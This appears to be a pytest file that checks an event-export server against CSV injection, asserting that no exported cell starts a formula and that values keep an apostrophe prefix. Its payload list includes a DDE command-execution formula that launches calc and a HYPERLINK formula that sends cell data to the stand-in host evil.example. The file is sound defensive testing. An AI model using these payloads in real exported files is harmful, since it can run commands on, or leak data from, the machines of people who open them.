"""CSV injection: no exported cell starts a formula, and no value is lost.

As OWASP recommends, an apostrophe precedes such values. NDJSON exports are unchanged.
"""

import csv
import io
import json
import subprocess
import sys

import pytest

from tests.support import ROOT
from tests.support.web.attack_target import AttackTarget, attack_event, with_query

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    '"=1+1',
    '",=1+1,"',
    '"\r\n=1+1,"',
    "a\r\n=1+1",
    "'=1+1",
    " =1+1",
    ";=1+1",
]
FORMULA_STARTS = tuple("=+-@\t\r\n\0＝＋－＠")
COLUMNS = 10


def parse_csv(text: str) -> list[list[str]]:
    """Return the cells as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def export_rows(target: AttackTarget, **filters: str) -> list[list[str]]:
    response = target.call(with_query("/events/export", format="csv", **filters))
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="events.csv"'
    return parse_csv(response.body.decode())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_exported_cell_is_a_formula(target, payload):
    results = target.send(
        attack_event(category=payload, name=payload, session_id=payload, data={"a": payload})
    )
    if results[0]["status"] == "rejected":  # names must not contain control characters
        assert any(ord(each) < 32 for each in payload)
        return
    header, *records = export_rows(target, category=payload)
    assert len(records) == 1 and len(header) == len(records[0]) == COLUMNS
    assert not [cell for cell in records[0] if cell.startswith(FORMULA_STARTS)]
    cells = dict(zip(header, records[0], strict=True))
    for name in ("category", "name", "session_id"):
        prefix = "'" if payload.startswith(FORMULA_STARTS) else ""
        assert cells[name] == prefix + payload
    assert json.loads(cells["data"]) == {"a": payload}


def test_no_cell_of_export_command_is_a_formula(target):
    command = [sys.executable, "server.py", "events", "export", "--format", "csv"]
    done = subprocess.run(
        [*command, "--data", str(target.server.data)], cwd=ROOT, capture_output=True, check=True
    )
    found = parse_csv(done.stdout.decode())
    assert len(found) > 5
    assert {len(row) for row in found} == {COLUMNS}
    assert not [cell for row in found for cell in row if cell.startswith(FORMULA_STARTS)]


def test_unprotected_server_exports_formulas(unprotected):
    unprotected.send(attack_event(category="=1+1"))
    found = export_rows(unprotected, category="=1+1")
    assert found[1][0] and "=1+1" in found[1]
